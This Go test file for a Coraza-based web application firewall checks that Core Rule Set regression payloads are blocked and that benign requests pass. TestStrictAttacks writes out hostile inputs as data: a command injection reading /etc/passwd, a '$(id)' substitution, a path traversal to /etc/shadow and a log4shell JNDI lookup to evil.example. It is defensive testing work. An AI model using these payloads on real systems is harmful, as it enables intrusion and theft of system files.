package waf

import (
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	crstests "github.com/corazawaf/coraza-coreruleset/v4/tests"
	"github.com/goccy/go-yaml"
)

// strictGuard is built once for the package's tests: compiling the CRS takes about half a second.
var strictGuard = sync.OnceValues(func() (*Guard, error) { return New(Config{Level: Strict}) })

func mustStrict(t testing.TB) *Guard {
	t.Helper()
	g, err := strictGuard()
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// The regression tests shipped with the CRS (go-ftw format), as far as this test reads them.
type ftwFile struct {
	RuleID int       `yaml:"rule_id"`
	Tests  []ftwTest `yaml:"tests"`
}

type ftwTest struct {
	TestID int `yaml:"test_id"`
	Stages []struct {
		Input struct {
			Method              string            `yaml:"method"`
			URI                 string            `yaml:"uri"`
			Headers             map[string]string `yaml:"headers"`
			Data                string            `yaml:"data"`
			EncodedRequest      string            `yaml:"encoded_request"`
			AutocompleteHeaders *bool             `yaml:"autocomplete_headers"`
		} `yaml:"input"`
		Output struct {
			Log struct {
				ExpectIDs []int `yaml:"expect_ids"`
			} `yaml:"log"`
		} `yaml:"output"`
	} `yaml:"stages"`
}

// attackRuleFiles are the CRS files whose rules Tiaki claims to cover at the strict level:
// the application attacks (LFI, RFI, RCE, PHP, generic, XSS, SQLi, session fixation, Java).
var attackRuleFiles = regexp.MustCompile(`^REQUEST-9(3[0-4]|4[1-4])-`)

// pl1CriticalRules returns the IDs of the rules in the attack files that run at paranoia level
// 1 with CRITICAL severity: one match is enough to reach the default anomaly threshold, so each
// of their regression payloads must be blocked on its own.
func pl1CriticalRules(t *testing.T) map[int]bool {
	t.Helper()
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/REQUEST-9*.conf")
	if err != nil || len(files) == 0 {
		t.Fatalf("no CRS rule files: %v", err)
	}
	idRE := regexp.MustCompile(`"id:(\d+),`)
	rules := map[int]bool{}
	for _, f := range files {
		if !attackRuleFiles.MatchString(strings.TrimPrefix(f, "@owasp_crs/")) {
			continue
		}
		b, err := fs.ReadFile(coreruleset.FS, f)
		if err != nil {
			t.Fatal(err)
		}
		// Each rule starts on a line of its own with SecRule or SecAction.
		for _, rule := range regexp.MustCompile(`(?m)^Sec(?:Rule|Action) `).Split(string(b), -1) {
			m := idRE.FindStringSubmatch(rule)
			if m == nil || !strings.Contains(rule, "tag:'paranoia-level/1'") || !strings.Contains(rule, "severity:'CRITICAL'") {
				continue
			}
			id, _ := strconv.Atoi(m[1])
			rules[id] = true
		}
	}
	return rules
}

// knownMisses are CRS regression tests this configuration does not block, each with why.
var knownMisses = map[string]string{
	"941120-12": "the payload is in Authorization, a credential Tiaki withholds from the rules (the CRS marks the test an expected false positive)",
}

// TestStrictRegression runs the CRS's own regression payloads for the paranoia level 1,
// critical rules of the attack categories through Tiaki's rule set, and asserts each request is
// refused by anomaly scoring with the rule under test named in the denial. Under the race
// detector it runs the first few tests of each rule.
func TestStrictRegression(t *testing.T) {
	perRule := 1 << 30
	if raceEnabled || testing.Short() {
		perRule = 2
	}
	g := mustStrict(t)
	rules := pl1CriticalRules(t)
	if len(rules) < 50 {
		t.Fatalf("found %d paranoia level 1 critical rules; the rule file format changed?", len(rules))
	}
	dirs, err := fs.ReadDir(crstests.FS, ".")
	if err != nil {
		t.Fatal(err)
	}
	var ran, skipped int
	covered := map[int]bool{}
	for _, dir := range dirs {
		if !attackRuleFiles.MatchString(dir.Name()) {
			continue
		}
		files, _ := fs.ReadDir(crstests.FS, dir.Name())
		for _, file := range files {
			if id, err := strconv.Atoi(strings.TrimSuffix(file.Name(), ".yaml")); err != nil || !rules[id] {
				continue
			}
			b, err := fs.ReadFile(crstests.FS, dir.Name()+"/"+file.Name())
			if err != nil {
				t.Fatal(err)
			}
			var ff ftwFile
			if err := yaml.Unmarshal(b, &ff); err != nil {
				t.Fatalf("%s: %v", file.Name(), err)
			}
			if !rules[ff.RuleID] {
				continue
			}
			ranRule := 0
			for _, tc := range ff.Tests {
				name := strconv.Itoa(ff.RuleID) + "-" + strconv.Itoa(tc.TestID)
				r, body, ok := ftwRequest(tc, ff.RuleID)
				if !ok {
					skipped++
					continue
				}
				if ranRule++; ranRule > perRule {
					continue
				}
				ran++
				d := g.crs.check(r, body, g.credentials)
				why, known := knownMisses[name]
				blocked := d != nil && d.Status == http.StatusForbidden && d.Type == "request-blocked" &&
					strings.Contains(d.Reason, "949110") && strings.Contains(d.Reason, strconv.Itoa(ff.RuleID))
				switch {
				case !blocked && !known:
					t.Errorf("%s (%s %s): not blocked naming rule %d: %v", name, r.Method, r.RequestURI, ff.RuleID, d)
				case blocked && known:
					t.Errorf("%s is blocked now; remove it from knownMisses (%s)", name, why)
				case blocked:
					covered[ff.RuleID] = true
				}
			}
		}
	}
	t.Logf("%d regression requests for %d rules blocked with the rule named; %d tests not applicable", ran, len(covered), skipped)
	if len(covered) < 50 || perRule > 2 && ran < 300 {
		t.Errorf("only %d requests covering %d rules ran", ran, len(covered))
	}
}

// ftwRequest builds the request of a one-stage test that expects ruleID to match, or reports
// that the test does not apply (several stages, a raw encoded request, another rule, or a
// request line net/http would never hand to a handler).
func ftwRequest(tc ftwTest, ruleID int) (*http.Request, []byte, bool) {
	if len(tc.Stages) != 1 {
		return nil, nil, false
	}
	in, out := tc.Stages[0].Input, tc.Stages[0].Output
	if in.EncodedRequest != "" || in.AutocompleteHeaders != nil && !*in.AutocompleteHeaders || !slices.Contains(out.Log.ExpectIDs, ruleID) {
		return nil, nil, false
	}
	method := in.Method
	if method == "" {
		method = http.MethodGet
	}
	uri := in.URI
	if uri == "" {
		uri = "/"
	}
	u, err := url.ParseRequestURI(uri)
	if err != nil {
		return nil, nil, false
	}
	r := &http.Request{Method: method, URL: u, RequestURI: uri, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header: http.Header{}, RemoteAddr: "192.0.2.10:40000", Host: "localhost"}
	for k, v := range in.Headers {
		if strings.EqualFold(k, "Host") {
			r.Host = v
			continue
		}
		r.Header.Add(k, v)
	}
	var body []byte
	if in.Data != "" {
		body = []byte(in.Data)
		// go-ftw sends Content-Length, and a form Content-Type when the test names none.
		r.Header.Set("Content-Length", strconv.Itoa(len(body)))
		if r.Header.Get("Content-Type") == "" {
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		r.ContentLength = int64(len(body))
	}
	return r, body, true
}

// strictFalsePositives are the benign corpus's requests the Core Rule Set refuses at paranoia
// level 1: the price of the strict level, kept here so a change in either is noticed.
var strictFalsePositives = map[string]string{
	"identifier 6":                "931100, 934110: a URL with an IP address looks like remote file inclusion and SSRF",
	"price 50% off -- today only": "942100: the CRS runs libinjection without Tiaki's prose-comment exception",
}

func TestStrictBenign(t *testing.T) {
	t.Parallel()
	g := mustStrict(t)
	for _, c := range loadJSON[benignCase](t, "testdata/benign/*.json") {
		d := g.Check(c.request(t), nil)
		why, expected := strictFalsePositives[c.Name]
		switch {
		case d != nil && !expected:
			t.Errorf("%s: false positive: %v", c.Name, d.Reason)
		case d == nil && expected:
			t.Errorf("%s passes now; remove it from strictFalsePositives (%s)", c.Name, why)
		}
	}
}

func TestStrictAttacks(t *testing.T) {
	t.Parallel()
	g := mustStrict(t)
	tests := []struct {
		name, query, wantRule string
	}{
		{"command injection (THREAT-15)", "; cat /etc/passwd", "932"},
		{"command substitution (THREAT-15)", "$(id)", "932"},
		{"path traversal", "../../../../etc/shadow", "930"},
		{"log4shell", "${jndi:ldap://evil.example/a}", "944"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := post("application/json", `{"file":`+strconv.Quote(tt.query)+`}`)
			if d := g.Check(r, nil); d == nil || d.Status != http.StatusForbidden || !strings.Contains(d.Reason, "rules "+tt.wantRule) && !strings.Contains(d.Reason, ","+tt.wantRule) {
				t.Errorf("denial %v, want 403 naming a %sxxx rule", d, tt.wantRule)
			}
		})
	}
}

// TestStrictWithholdsCredentials: credentials are not shown to the rules, so a token that
// happens to look like an attack (the CRS's own expected false positive 941120-12) passes.
func TestStrictWithholdsCredentials(t *testing.T) {
	t.Parallel()
	g := mustStrict(t)
	r := httptest.NewRequest(http.MethodGet, "/api/payment/status", nil)
	r.Header.Set("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0onload=.POstGet_K5DG")
	if d := g.Check(r, nil); d != nil {
		t.Errorf("denied: %v", d)
	}
	r.Header.Set("Request-Reason", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0onload=.POstGet_K5DG")
	if d := g.Check(r, nil); d == nil {
		t.Error("the same value in an ordinary header passed; is the rule set inspecting headers?")
	}
}
